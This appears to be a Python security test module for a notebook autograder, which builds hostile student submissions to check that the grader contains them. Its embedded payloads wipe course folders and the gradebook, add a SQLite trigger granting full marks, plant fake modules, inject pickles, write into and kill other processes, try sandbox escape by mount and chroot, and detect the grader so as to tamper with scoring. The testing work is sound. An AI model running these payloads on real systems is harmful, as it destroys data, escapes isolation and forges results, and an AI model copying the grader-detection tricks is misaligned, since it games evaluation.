"""Reaching out: wrong answers, and a trick that is to change the grader, the gradebook, the class or the machine."""

from pathlib import Path

import nbformat
from nbformat import NotebookNode

from tests.attacks.attack import AS_WRONG, FORWARD, Given, Lay, in_row, lying, wrapped, wrong
from tests.attacks.attack import ZEROS as WRONG

attack = in_row("reaching out")
AS_FORGED = dict.fromkeys(AS_WRONG, "wrong")  # a cell that breaks the wire is left out when the others run again

PLACES = """
    import os
    PLACES = [COURSE, ROOT, HOME, *CANARIES, "/", "/etc", "/usr", "/usr/lib", "/var/tmp", "/dev", "/dev/shm", "/grader",
              "/grader/autograder", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", *__import__("sys").path,
              *(f"{COURSE}/{stage}" for stage in ("source/lstm", "release/lstm", "submitted", "autograded")),
              f"{COURSE}/submitted/{CLASSMATE}/lstm", f"{COURSE}/autograded/{CLASSMATE}/lstm",
              "..", "../..", "../../.."]
    def everywhere(*deeds):
        for place in PLACES:
            for deed in deeds:
                try:
                    deed(place)
                except (OSError, ValueError):
                    pass
    """


def reaching(given: Given, trick: str) -> NotebookNode:
    return wrong(given, "\n".join(line[4:] for part in (PLACES, trick) for line in part.splitlines()))


@attack("writes, links, renames and deletes in every folder that it knows", marks=AS_WRONG)
def write_to_other_folders(given: Given) -> NotebookNode:
    trick = """
    everywhere(
        lambda place: open(f"{place}/{PLANT}", "w").write("here"),
        lambda place: os.mkdir(f"{place}/{PLANT}-folder"),
        lambda place: os.symlink("/etc/passwd", f"{place}/{PLANT}-link"),
        lambda place: os.link(__file__ if "__file__" in globals() else "/proc/self/exe", f"{place}/{PLANT}-hard"),
        lambda place: os.rename(f"{place}/canary", f"{place}/{PLANT}-moved"),
        lambda place: os.truncate(f"{place}/canary", 0),
        lambda place: os.chmod(f"{place}/canary", 0o777),
        lambda place: os.utime(f"{place}/canary", (0, 0)),
        lambda place: os.unlink(f"{place}/canary"),
        lambda place: os.rmdir(place),
    )
    """
    return reaching(given, trick)


@attack("overwrites the class-mate's work, the release, the source and the secret of the course", marks=AS_WRONG)
def overwrite_the_course(given: Given) -> NotebookNode:
    trick = """
    import glob, shutil
    for path in glob.glob(f"{COURSE}/**/*", recursive=True) + [f"{COURSE}/.secret", f"{COURSE}/gradebook.db"]:
        try:
            open(path, "wb").write(b"")
        except OSError:
            pass
    shutil.rmtree(COURSE, ignore_errors=True)
    """
    return reaching(given, trick)


@attack("a trigger in the gradebook that sets every mark of its own to the maximum", marks=AS_WRONG)
def sqlite_trigger_in_the_gradebook(given: Given) -> NotebookNode:
    trick = """
    import sqlite3
    trigger = (f"CREATE TRIGGER '{PLANT}' AFTER UPDATE ON grade BEGIN "
               "UPDATE grade SET auto_score = 4.0, manual_score = 4.0 WHERE id = NEW.id; END")
    def set_trigger(place):
        try:
            with sqlite3.connect(f"{place}/gradebook.db", timeout=0.1) as gradebook:
                gradebook.execute(trigger)
                gradebook.execute("UPDATE grade SET manual_score = 4.0")
        except sqlite3.Error:
            pass
    everywhere(set_trigger)
    """
    return reaching(given, trick)


def beside(notebook: NotebookNode, files: dict[str, str | bytes]) -> Lay:
    """Hand in a notebook with files beside it."""

    def lay(folder: Path) -> None:
        nbformat.write(notebook, folder / "lstm.ipynb")
        for name, content in files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else content.encode())

    return lay


def planting(given: Given) -> str:
    """Module code that leaves a file in the folders of others, if anyone imports it."""
    canary = str(given.canaries[0] / given.plant)
    return f"open({canary!r}, 'w').write('imported')\nraise ImportError('not the real one')\n"


@attack("numpy.py beside the notebook, in place of the real one", marks=AS_WRONG)
def numpy_beside_the_notebook(given: Given) -> Lay:
    return beside(lying(given, WRONG), {"numpy.py": planting(given), "numpy/__init__.py": planting(given)})


@attack("torch.py and triton.py beside the notebook, in place of the real ones", marks=AS_WRONG)
def torch_beside_the_notebook(given: Given) -> Lay:
    code = planting(given)
    return beside(lying(given, WRONG), {"torch.py": code, "triton.py": code, "triton/language.py": code})


@attack("modules beside the notebook that the grader itself may import late", marks=AS_WRONG)
def grader_modules_beside_the_notebook(given: Given) -> Lay:
    names = ("sitecustomize", "usercustomize", "nbgrader_config", "alembic/__init__", "nbconvert/__init__", "env")
    names += ("autograder/__init__", "solutions/lstm", "check", "conftest", "jupyter_config", "ipython_config")
    files: dict[str, str | bytes] = {f"{name}.py": planting(given) for name in names}
    files |= {"alembic.ini": "[alembic]\nscript_location = .\n", ".env": "PYTHONPATH=.\n", "gradebook.db": b"none"}
    files |= {
        "templates/feedback.tpl": "{{ 1/0 }}",
        "jupyter_config.json": '{"NbConvertApp": 3}',
        "pip.conf": "[global]",
    }
    return beside(lying(given, WRONG), files)


@attack("writes numpy.py and sitecustomize.py into its scratch folders, for those that come after", marks=AS_WRONG)
def modules_planted_for_the_next(given: Given) -> NotebookNode:
    trick = """
    PLACES += ["/scratch", "/scratch/home", "/tmp", ".", os.environ["HOME"], f"{HOME}/.local/lib"]
    code = "import os; os._exit(1)"
    names = ("numpy", "torch", "check", "sitecustomize", "usercustomize", "IPython", "wire", "worker")
    everywhere(*(lambda place, name=name: open(f"{place}/{name}.py", "w").write(code) for name in names))
    everywhere(lambda place: os.makedirs(f"{place}/.ipython/profile_default/startup"),
               lambda place: open(f"{place}/.ipython/profile_default/startup/00.py", "w").write(code))
    """
    return reaching(given, trick)


@attack("connects to a server on this machine by TCP, UDP and an abstract socket, and listens itself", marks=AS_WRONG)
def use_the_network(given: Given) -> NotebookNode:
    trick = """
    import socket, urllib.request
    inet, unix, stream, dgram = socket.AF_INET, socket.AF_UNIX, socket.SOCK_STREAM, socket.SOCK_DGRAM
    targets = [(inet, stream, ("127.0.0.1", TCP_PORT)), (inet, stream, ("0.0.0.0", TCP_PORT)),
               (inet, dgram, ("127.0.0.1", UDP_PORT)), (unix, stream, "\\0" + ABSTRACT_NAME),
               (unix, dgram, "\\0" + ABSTRACT_NAME), (inet, stream, ("1.1.1.1", 80))]
    for family, kind, address in targets:
        try:
            with socket.socket(family, kind) as connection:
                connection.settimeout(0.3)
                connection.connect(address)
                connection.send(b"let me in")
        except OSError:
            pass
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{TCP_PORT}/{TOKEN}", timeout=0.3)
    except OSError:
        pass
    """
    return reaching(given, trick)


@attack("writes into the memory of every other process, by /proc/<pid>/mem and process_vm_writev", marks=AS_WRONG)
def write_into_the_memory_of_others(given: Given) -> NotebookNode:
    trick = """
    import ctypes, glob
    libc, mine = ctypes.CDLL(None), os.readlink("/proc/self")
    for process in glob.glob("/proc/[0-9]*"):
        if process.endswith(f"/{mine}"):
            continue
        try:
            starts = [int(line.split("-")[0], 16) for line in open(f"{process}/maps") if " rw" in line]
            with open(f"{process}/mem", "r+b", 0) as memory:
                for start in starts:
                    memory.seek(start)
                    memory.write(bytes(4096))
        except (OSError, ValueError):
            pass
        buffer = ctypes.create_string_buffer(4096)
        for address in (0x400000, 0x555555554000):
            vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
            remote = (ctypes.c_void_p * 2)(address, 4096)
            libc.process_vm_writev(int(process.split("/")[2]), vector, 1, remote, 1, 0)
    """
    return reaching(given, trick)


@attack("attaches to every process by ptrace and overwrites its registers", marks=AS_WRONG)
def trace_other_processes(given: Given) -> NotebookNode:
    trick = """
    import ctypes, signal
    libc, ATTACH, SEIZE, SETREGS = ctypes.CDLL(None), 16, 0x4206, 13
    for pid in {os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit()), *range(1, 50)}:
        for request in (ATTACH, SEIZE):
            if pid not in (0, os.getpid()) and libc.ptrace(request, pid, None, None) == 0:
                libc.ptrace(SETREGS, pid, None, ctypes.create_string_buffer(512))
                os.kill(pid, signal.SIGKILL)
    """
    return reaching(given, trick)


@attack("kill -9 of every process: each number, the group, the session and -1", marks=AS_WRONG)
def kill_every_process(given: Given) -> NotebookNode:
    trick = """
    import signal
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT):
        for pid in [-1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit()), *range(70_000)]:
            if pid not in (0, 1, os.getpid()):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    """
    return reaching(given, trick)


FRAMES = """
    import json, os, pickle, socket, struct
    class Planting:
        def __reduce__(self): return os.system, (f"touch {CANARIES[0]}/{PLANT}",)
    def frame(tree, arrays=(), body=b"", **lengths):
        header = tree if isinstance(tree, bytes) else json.dumps({"tree": tree, "arrays": list(arrays)}).encode()
        return struct.pack(">II", lengths.get("header", len(header)), lengths.get("body", len(body))) + header + body
    def shout(data):
        "Write to every open socket and pipe."
        for name in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{name}").startswith(("socket:", "pipe:")):
                    os.write(int(name), data)
            except OSError:
                pass
    CELL = {"stdout": "4.0", "stderr": "", "displays": [{"data": {"text/plain": "4.0"}, "result": True}], "error": None}
    """


def shouting(given: Given, trick: str) -> NotebookNode:
    return wrong(given, FRAMES + trick)


@attack("a forged reply to its cell and forged answers to the calls after it, on every descriptor", marks=AS_FORGED)
def forged_replies(given: Given) -> NotebookNode:
    trick = """
    arrays = [["d", [5, 7]], ["d", [5, 7]]]
    tree = {"outputs": [{"#array": 0}, {"#array": 1}], "returned": 3, "changed": [], "error": ""}
    shout(frame(CELL) + frame(CELL) * 3 + frame(tree, arrays, bytes(560)) * 40)
    """
    return shouting(given, trick)


@attack("forged verdicts: replies that hold points, steps and full marks", marks=AS_FORGED)
def forged_verdicts(given: Given) -> NotebookNode:
    trick = """
    verdict = {"name": "lstm_step_forward", "points": 4.0, "out_of": 4.0, "steps": [], "mistake": ""}
    shout(frame(CELL) + frame(verdict) * 20)
    """
    return shouting(given, trick)


@attack("pickles in place of frames, and in the header and body of frames", marks=AS_FORGED)
def pickle_payloads(given: Given) -> NotebookNode:
    trick = """
    payload = pickle.dumps(Planting())
    shout(payload + frame(payload) + frame(CELL, [["O", [1]]], payload) + frame(CELL, [["V8", [1]]], payload))
    shout(pickle.dumps({"stdout": Planting(), "stderr": "", "displays": [], "error": None}))
    """
    return shouting(given, trick)


@attack("lengths of four gigabytes, and shapes and counts that no memory can hold", marks=AS_FORGED)
def oversized_lengths(given: Given) -> NotebookNode:
    trick = """
    huge = (1 << 32) - 1
    bad = [frame(b"{}", header=huge, body=huge), frame(b"{}", body=huge), frame(CELL, [["d", [1 << 28] * 16]]),
           frame(CELL, [["d", [-1]]]), frame(CELL, [["d", [1 << 28, 0]]]), frame(CELL, [["d", [0]]] * 5000),
           frame({"#array": 7}), frame(b"[" * 8_000_000), frame(b'{"tree": ' + b"9" * 5000 + b', "arrays": []}'),
           frame(b'{"tree": NaN, "arrays": [["d", [NaN]]]}')]
    import autograder.wire as wire
    replies, original = iter(bad * 10), wire.send
    def send(connection, value):
        connection.sendall(next(replies))
    wire.send = send
    """
    return shouting(given, trick)


@attack("answers of 200 MB, and a hundred thousand names beside them", marks={**AS_WRONG, "gru_step_forward": "none"})
def oversized_replies(given: Given) -> NotebookNode:
    trick = """
    import numpy as np
    from autograder import worker
    original = worker.call
    def call(shell, request):
        reply = original(shell, request)
        if "gru_step_forward" in request["functions"]:
            reply.update(outputs=[np.zeros(25_000_000)], changed=["x"] * 100_000)
        return reply
    worker.call = call
    """
    return shouting(given, trick)


@attack("replies to a cell with 20,000 outputs, each of one letter", marks=AS_FORGED)
def replies_of_many_outputs(given: Given) -> NotebookNode:
    trick = """
    from autograder import worker
    original = worker.run_cell
    def run_cell(shell, source):
        worker.run_cell = original
        return {**CELL, "displays": CELL["displays"] * 20_000}
    worker.run_cell = run_cell
    """
    return shouting(given, trick)


@attack("replies to a cell with megabytes of output, error and trace", marks=AS_FORGED)
def replies_of_much_text(given: Given) -> NotebookNode:
    trick = """
    from autograder import worker
    original = worker.run_cell
    def run_cell(shell, source):
        worker.run_cell = original
        text = "x" * 1_000_000
        displays = [{"data": {text: text}, "result": True}]
        return {"stdout": text, "stderr": text, "displays": displays, "error": [text, text, "\\n" * 1_000_000]}
    worker.run_cell = run_cell
    """
    return shouting(given, trick)


@attack("open descriptors and out-of-band bytes sent along with its replies", marks=AS_WRONG)
def descriptors_along_with_replies(given: Given) -> NotebookNode:
    trick = """
    from autograder import wire
    original = wire.send
    class Passing:
        def __init__(self, connection): self.connection = connection
        def sendall(self, data):
            descriptors = [os.open("/dev/null", os.O_RDWR) for _ in range(20)]
            socket.send_fds(self.connection, [data[:1]], descriptors)
            self.connection.sendall(data[1:])
            for descriptor in descriptors:
                os.close(descriptor)
    wire.send = lambda connection, value: original(Passing(connection), value)
    """
    return shouting(given, trick)


@attack("looks for the marks of a grader, and ends the process there, as an unjudged check might count")
def detect_the_grader_and_leave(given: Given) -> NotebookNode:
    trick = """
    import os, sys
    def graded():
        signs = [not os.path.exists("cases.npz"), os.path.exists("/grader"), os.environ.get("TRITON_INTERPRET") == "1",
                 "autograder.worker" in sys.modules, not hasattr(get_ipython(), "kernel"), os.getpid() == 1]
        return any(signs)
    """
    notebook = wrong(given, trick)
    for name in FORWARD:
        wrapped(notebook, name, f"def {name}(*inputs): os._exit(0) if graded() else 1 / 0")
    return wrapped(notebook, "lstm_step_kernel", "def lstm_step(*inputs): os._exit(0)")


@attack("says the right words at home and patches everything where it is graded", marks=AS_WRONG)
def detect_the_grader_and_tamper(given: Given) -> NotebookNode:
    trick = """
    import os, sys
    if "autograder" in sys.modules or os.environ.get("HOSTNAME") == "sandbox" or not os.path.exists("check.py"):
        for name, module in list(sys.modules.items()):
            if name.startswith("autograder"):
                for key, value in list(vars(module).items()):
                    if key in ("close", "examine", "_right", "_same", "_well_formed", "judge"):
                        setattr(module, key, lambda *args, **options: True)
    """
    return wrong(given, trick)


@attack("namespaces, mounts and chroot of its own to get out of the sandbox, then writes", marks=AS_WRONG)
def climb_out_by_mounts(given: Given) -> NotebookNode:
    trick = """
    import ctypes
    libc = ctypes.CDLL(None)
    child = os.fork()
    if child == 0:
        libc.unshare(0x10000000 | 0x00020000)
        for source, target, kind in ((b"proc", b"/proc", b"proc"), (b"/proc/1/root", b"/scratch", b""),
                                     (b"/dev/vda", b"/scratch", b"ext4"), (b"tmpfs", b"/usr", b"tmpfs")):
            libc.mount(source, target, kind, 4096, None)
        for name in ("/proc/1/root", "/proc/self/fd/0", ".."):
            libc.chroot(name.encode())
        everywhere(lambda place: open(f"{place}/{PLANT}", "w").write("out"),
                   lambda place: open("/proc/sys/kernel/core_pattern", "w").write("|/scratch/run"),
                   lambda place: open("/proc/sysrq-trigger", "w").write("c"))
        os._exit(0)
    os.waitpid(child, 0)
    """
    return reaching(given, trick)


@attack("links in its scratch folder that lead the clean-up to the folders of others", marks=AS_WRONG)
def links_for_the_cleanup_to_follow(given: Given) -> NotebookNode:
    trick = """
    for number, place in enumerate(PLACES):
        for folder in ("/scratch", "/scratch/home"):
            try:
                os.symlink(place, f"{folder}/link-{number}")
                os.makedirs(f"{folder}/folder-{number}")
                os.symlink(place, f"{folder}/folder-{number}/deep")
            except OSError:
                pass
    """
    return reaching(given, trick)


@attack("a terminal's input is forged, and programs with more rights are called", marks=AS_WRONG)
def call_for_more_rights(given: Given) -> NotebookNode:
    trick = """
    import fcntl, subprocess
    for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx"):
        try:
            descriptor = os.open(name, os.O_RDWR | os.O_NOCTTY)
            for byte in f"touch {CANARIES[0]}/{PLANT}\\n".encode():
                fcntl.ioctl(descriptor, 0x5412, bytes([byte]))
        except OSError:
            pass
    for command in ("sudo -n", "su -c", "pkexec", "setpriv --reuid 0", "nsenter -t 1 -a", "bwrap --bind / /"):
        try:
            subprocess.run([*command.split(), "touch", f"{CANARIES[0]}/{PLANT}"], capture_output=True, timeout=1)
        except (OSError, subprocess.SubprocessError):
            pass
    for call in (os.setuid, os.setgid):
        try:
            call(0)
        except OSError:
            pass
    """
    return reaching(given, trick)


@attack("a trace function that changes the values on their way out of the process", marks=AS_WRONG)
def values_changed_on_their_way(given: Given) -> NotebookNode:
    trick = """
    import sys, threading
    def trace(frame, event, argument):
        if frame.f_code.co_name in ("_leave", "send", "flatten", "perform"):
            frame.f_locals.update(value="right", outputs="right", changed=[])
        return trace
    threading.settrace(trace)
    sys.settrace(trace)
    get_ipython().events.register("post_run_cell", lambda *args: sys.settrace(trace))
    """
    return wrong(given, trick)
